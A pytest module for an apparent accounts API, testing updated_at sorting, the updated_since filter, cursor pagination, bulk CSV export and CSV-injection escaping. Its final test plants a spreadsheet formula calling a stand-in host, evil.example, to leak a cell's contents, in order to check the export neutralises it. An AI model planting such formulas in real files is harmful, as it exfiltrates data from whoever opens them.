"""What changes the list and its export must follow: a new account sorts last by `updated_at`,
`updated_since` lists what changed after an instant, a cursor survives an account added while
walking, an export holds every account however many pages, and a name typed as a formula stays
text. The tests share one portfolio per run of the module and each adds accounts of its own,
so each reads only what it can tell apart."""

from __future__ import annotations

import time
from datetime import UTC, date, datetime, timedelta, timezone

import pytest
from fastapi.testclient import TestClient

from tests.blind_portfolio.support import (
    BRIGHTWATER,
    EXPORTS,
    MAISON,
    POLDER,
    Portfolio,
    Seed,
    account_json,
    create,
    list_page,
    read_csv,
    reference_column,
    walk,
    walked_set,
)
from tests.conftest import AUTH


def found(client: TestClient, params: dict) -> set[str]:
    walked = walk(client, params, limit=7)
    references = walked_set(walked)
    assert set(walked.totals) <= {len(references)}
    return references


def seed(reference: str, creditor: str, name: str, email: str, phone: str, amount: str = "42.00") -> Seed:
    return Seed(reference, creditor, name, "nl", "BE", "Europe/Brussels", email, phone, ((amount, -20),))


def test_a_new_account_comes_last_by_updated_at(rw_api: TestClient, rw_portfolio: Portfolio) -> None:
    create(rw_api, account_json(seed("ZZ-LATE-0001", POLDER, "Wout Jacobs", "wout.jacobs@telenet.be", "+32470998877")))
    assert walk(rw_api, {"sort": "updated_at"}, limit=4).references[-1] == "ZZ-LATE-0001"
    assert walk(rw_api, {"sort": "-updated_at"}, limit=4).references[0] == "ZZ-LATE-0001"


def test_updated_since(rw_api: TestClient, rw_portfolio: Portfolio) -> None:
    """Accounts created after the instant are listed, the earlier ones not. The instant is
    given in UTC (`Z`, `+00:00`) and in Brussels time (`+01:00`): the same moment."""
    everything_before = found(rw_api, {})
    assert rw_portfolio.references <= everything_before
    time.sleep(0.6)
    instant = datetime.now(UTC)
    time.sleep(0.6)
    after = [
        seed("UPD-2026-0001", BRIGHTWATER, "Lore Maes", "lore.maes@telenet.be", "+32470550001"),
        seed("UPD-2026-0002", MAISON, "Théo Lambert", "theo.lambert@free.fr", "+33612550002"),
    ]
    for new in after:
        create(rw_api, account_json(new))
    expected = {new.reference for new in after}
    spellings = [
        instant.isoformat(),
        instant.strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
        instant.astimezone(timezone(timedelta(hours=1))).isoformat(),
    ]
    for spelling in spellings:
        assert found(rw_api, {"updated_since": spelling}) == expected, spelling
    assert found(rw_api, {"updated_since": spellings[0], "creditor": MAISON}) == {"UPD-2026-0002"}
    a_day_ago = (instant - timedelta(days=1)).isoformat()
    assert found(rw_api, {"updated_since": a_day_ago}) >= everything_before | expected
    tomorrow = (instant + timedelta(days=1)).isoformat()
    assert found(rw_api, {"updated_since": tomorrow}) == set()


@pytest.mark.beyond_spec
def test_updated_since_sees_a_patched_account(rw_api: TestClient, rw_portfolio: Portfolio) -> None:
    """A PATCH after the instant counts as a change of the account (here its debtor's email):
    `updated_since` lists it and `sort=updated_at` puts it last."""
    time.sleep(0.6)
    instant = datetime.now(UTC)
    time.sleep(0.6)
    response = rw_api.patch(
        "/api/v1/accounts/BW-2025-0002", json={"debtor": {"email": "f.lefevre@proton.me"}}, headers=AUTH
    )
    assert response.status_code == 200, response.text
    assert "BW-2025-0002" in found(rw_api, {"updated_since": instant.isoformat()})
    assert "BW-2025-0003" not in found(rw_api, {"updated_since": instant.isoformat()})
    # And it moves to the end of the `updated_at` order.
    assert walk(rw_api, {"sort": "updated_at"}, limit=4).references[-1] == "BW-2025-0002"


@pytest.mark.beyond_spec
def test_an_account_added_while_walking_neither_repeats_nor_hides_the_others(
    rw_api: TestClient, rw_portfolio: Portfolio
) -> None:
    """A cursor marks a place in the order, not an offset: an account created before that
    place after the first page was read pushes no account already seen onto the next page."""
    first = list_page(rw_api, {"sort": "reference", "limit": 5}).json()
    seen = [item["reference"] for item in first["items"]]
    create(rw_api, account_json(seed("AAA-0001", BRIGHTWATER, "Yasmine Benali", "y.benali@skynet.be", "+32472001122")))
    rest: list[str] = []
    cursor = first["next_cursor"]
    while cursor:
        body = list_page(rw_api, {"sort": "reference", "limit": 5, "cursor": cursor}).json()
        rest.extend(item["reference"] for item in body["items"])
        cursor = body["next_cursor"]
    assert not set(seen) & set(rest), f"seen twice: {set(seen) & set(rest)}"
    assert set(seen) | set(rest) >= rw_portfolio.references


@pytest.mark.beyond_spec
def test_the_accounts_export_is_not_cut_to_a_page(rw_api: TestClient, rw_portfolio: Portfolio) -> None:
    """An export holds every matching account, however many pages the list would take."""
    today = date.today()
    lines = ["reference,creditor,name,invoice_number,amount,issued_on,due_on"]
    for n in range(260):
        lines.append(
            f"BULK-{n:05d},Bulk Telecom BV,Klant {n},F{n:05d},{10 + n}.25,"
            f"{(today - timedelta(days=60)).isoformat()},{(today - timedelta(days=30)).isoformat()}"
        )
    response = rw_api.post(
        "/api/v1/imports", content=("\n".join(lines) + "\n").encode(), headers={**AUTH, "content-type": "text/csv"}
    )
    assert response.status_code == 200 and response.json()["rejected"] == 0, response.text
    bulk = {f"BULK-{n:05d}" for n in range(260)}
    export = rw_api.get(f"{EXPORTS}/accounts.csv", params={"creditor": "Bulk Telecom BV"}, headers=AUTH)
    assert export.status_code == 200, export.text
    header, rows = read_csv(export)
    assert {row[reference_column(header)] for row in rows} == bulk
    assert found(rw_api, {"creditor": "Bulk Telecom BV"}) == bulk


@pytest.mark.beyond_spec
def test_a_cell_is_never_read_as_a_formula_by_a_spreadsheet(rw_api: TestClient, rw_portfolio: Portfolio) -> None:
    """A debtor's name typed as a formula is exported so that Excel or LibreOffice shows it
    as text (OWASP "CSV injection"): the cell does not begin with = + - @ unescaped."""
    body = account_json(seed("BW-2025-0666", BRIGHTWATER, "x", "evil@example.com", "+32470666666"))
    body["debtor"]["name"] = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    create(rw_api, body)
    export = rw_api.get(f"{EXPORTS}/accounts.csv", params={"q": "BW-2025-0666"}, headers=AUTH)
    header, rows = read_csv(export)
    row = next(row for row in rows if row[reference_column(header)] == "BW-2025-0666")
    name_cells = [value for value in row.values() if "HYPERLINK" in value]
    assert name_cells, row
    for value in name_cells:
        assert not value.startswith(("=", "+", "-", "@")), value
